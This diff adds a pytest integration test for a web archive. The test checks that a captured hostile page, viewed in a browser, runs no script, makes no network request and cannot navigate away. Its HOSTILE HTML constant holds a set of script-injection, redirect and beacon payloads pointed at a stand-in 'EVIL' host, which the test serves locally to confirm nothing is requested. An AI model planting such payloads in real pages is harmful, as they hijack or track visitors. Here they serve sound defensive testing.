@@ -1,0 +1,202 @@
+"""A hostile page that was captured does nothing in a browser: no script, no network, no way out."""
+
+from __future__ import annotations
+
+import base64
+import datetime as dt
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from data.archive.archive import Archive
+from data.models import Draft, Source
+from data.settings import Archive as Settings
+from data.settings import Site
+from data.store import open_store
+from feeds.publishing.publish import publish
+from feeds.server.app import create_app
+from spiders.download.browser import BrowserMissing, find_browser
+from tests.archived import START, exchange
+from tests.feeds.fakestore import make_release
+from tests.feeds.serving import served_by
+
+try:
+    BROWSER, MISSING = find_browser(), ""
+except BrowserMissing as error:
+    BROWSER, MISSING = "", str(error)
+
+pytestmark = [pytest.mark.integration, pytest.mark.skipif(not BROWSER, reason=MISSING)]
+
+PIXEL = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
+
+HOSTILE = """<!doctype html><html><head>
+<base href="EVIL/base/" target="_top">
+<meta http-equiv="refresh" content="0; url=EVIL/refresh">
+<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
+<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL">
+<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload">
+<link rel="icon" href="EVIL/icon"><link rel="manifest" href="EVIL/manifest">
+<link rel="stylesheet" href="https://acme.example/s.css">
+<style>@import "EVIL/import.css"; body { background: url(EVIL/background) }</style>
+<script>top.document.title = "owned"; fetch("EVIL/fetch"); document.title = "ran"</script>
+<script src="EVIL/script.js"></script></head>
+<body onload="location = 'EVIL/onload'">
+<h1>Statement</h1>
+<img id="ours" src="https://acme.example/a.png"><img src="EVIL/img" onerror="top.location='EVIL/x'">
+<img srcset="EVIL/set 1x"><picture><source srcset="EVIL/source"><img src="EVIL/img2"></picture>
+<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>top.name='owned'</script>"></iframe>
+<object data="EVIL/object"></object><embed src="EVIL/embed">
+<video src="EVIL/video" autoplay></video>
+<svg onload="location='EVIL/svg'"><image href="EVIL/svgimage"/><use href="EVIL/use#a"/>
+<script>location = "EVIL/svgscript"</script></svg>
+<form action="EVIL/form" id="f"><button id="send">send</button></form>
+<a id="js" href="javascript:top.document.title='owned'">js</a>
+<a id="data" href="data:text/html,<script>top.name='owned'</script>">data</a>
+<a id="out" href="EVIL/link" ping="EVIL/ping">out</a>
+<a id="blank" href="EVIL/blank" target="_blank">blank</a>
+<table background="EVIL/table"><tr><td>x</table>
+</body></html>"""
+
+
+class Evil(ThreadingHTTPServer):
+    """A server that must not be asked anything; ``asked`` are the paths that were."""
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.asked: list[str] = []
+        self.connected = 0
+        self.url = f"http://127.0.0.1:{self.server_address[1]}"
+
+    def get_request(self) -> Any:
+        """Count a connection."""
+        self.connected += 1
+        return super().get_request()
+
+
+class Handler(BaseHTTPRequestHandler):
+    """Notes what is asked."""
+
+    server: Evil
+
+    def do_GET(self) -> None:
+        """Answer."""
+        self.server.asked.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    do_POST = do_GET  # noqa: N815 - the server looks for this name
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture(scope="module")
+def evil() -> Iterator[Evil]:
+    server = Evil()
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield server
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def shown(tmp_path_factory: pytest.TempPathFactory, evil: Evil) -> Iterator[tuple[str, str]]:
+    """The address of a site, and of the captured page of its one release."""
+    home: Path = tmp_path_factory.mktemp("home")
+    archive = Archive(home / "archive", Settings())
+    release = make_release(0)
+    body = HOSTILE.replace("EVIL", evil.url).encode()
+    capture = archive.exchange(exchange(release.url, body, START))
+    for name, content, kind in (
+        ("a.png", PIXEL, "image/png"),
+        ("s.css", b"h1 { color: rgb(1, 2, 3) }", "text/css"),
+    ):
+        archive.exchange(exchange(f"https://acme.example/{name}", content, START, kind))
+    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>location='{evil.url}/s'</script></svg>"
+    url = "https://acme.example/a.svg"
+    archive.exchange(exchange(url, svg.encode(), START, "image/svg+xml"))
+    archive.close()
+    store = open_store(f"sqlite:{home / 'communique.db'}")
+    store.register(Source("acme", "ACME", "https://acme.example/", "Asia/Baku"))
+    draft = Draft("acme", release.url, release.content, capture=capture)
+    kept = store.record(draft, seen=START, since=START - dt.timedelta(days=1)).release
+    for web in served_by(
+        create_app(home / "site", f"sqlite:{home / 'communique.db'}", archive=home / "archive")
+    ):
+        base = str(web.base_url).rstrip("/")
+        publish(store, home / "site", Site(url=base))
+        store.close()
+        yield base, f"{base}/releases/{kept.id}/capture/page"
+
+
+@pytest.fixture
+def page() -> Iterator[Any]:
+    """A tab that opens no other."""
+    # It comes with the extra `browser`, without which these tests are skipped.
+    from playwright.sync_api import sync_playwright  # noqa: PLC0415 - as above
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
+        context = browser.new_context()
+        opened = context.new_page()
+        yield opened
+        assert context.pages == [opened]
+        browser.close()
+
+
+def test_a_hostile_page_in_its_frame_does_nothing(
+    shown: tuple[str, str], evil: Evil, page: Any
+) -> None:
+    _, address = shown
+    page.goto(address)
+    title = page.title()
+    frame = page.frame_locator("iframe")
+    frame.locator("h1").wait_for()
+    page.wait_for_load_state("networkidle")
+    for link in ("#js", "#data", "#out", "#blank", "#send"):
+        if frame.locator(link).count():
+            frame.locator(link).click(no_wait_after=True, force=True)
+            page.wait_for_load_state("networkidle")
+            page.goto(address)
+            frame.locator("h1").wait_for()
+    assert page.url == address
+    assert page.title() == title
+    assert page.evaluate("window.name") == ""
+    assert (evil.asked, evil.connected) == ([], 0)
+
+
+def test_what_the_archive_holds_of_it_is_shown(shown: tuple[str, str], page: Any) -> None:
+    _, address = shown
+    page.goto(address)
+    page.frame_locator("iframe").locator("h1").wait_for()
+    page.wait_for_load_state("networkidle")
+    # Scripts don't run in the frame, not even ours: its picture shows what was loaded and applied.
+    asked = httpx.get(f"{page.frames[1].url}").text
+    assert "/memento/20221124080000/https://acme.example/a.png" in asked
+    size = page.frame_locator("iframe").locator("#ours").bounding_box()
+    assert size
+    assert size["width"] == 1
+
+
+@pytest.mark.parametrize("path", ["news/0", "a.svg"])
+def test_a_hostile_page_without_its_frame_does_nothing_either(
+    shown: tuple[str, str], evil: Evil, page: Any, path: str
+) -> None:
+    base, _ = shown
+    address = f"{base}/memento/20221124080000/https://acme.example/{path}"
+    page.goto(address)
+    page.wait_for_load_state("networkidle")
+    assert page.url == address
+    assert page.title() != "owned"
+    assert (evil.asked, evil.connected) == ([], 0)
